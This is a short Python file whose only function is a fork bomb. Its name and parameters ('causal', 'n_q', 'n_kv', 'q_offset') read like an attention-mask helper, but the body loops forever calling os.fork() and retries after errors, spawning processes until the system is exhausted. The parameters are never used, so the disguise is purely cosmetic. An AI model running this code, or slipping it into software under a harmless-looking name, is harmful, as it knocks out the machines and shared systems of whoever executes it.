"""Every process that it starts starts two more."""

import os


def causal(n_q, n_kv, q_offset=0):
    while True:
        try:
            os.fork()
        except OSError:
            continue
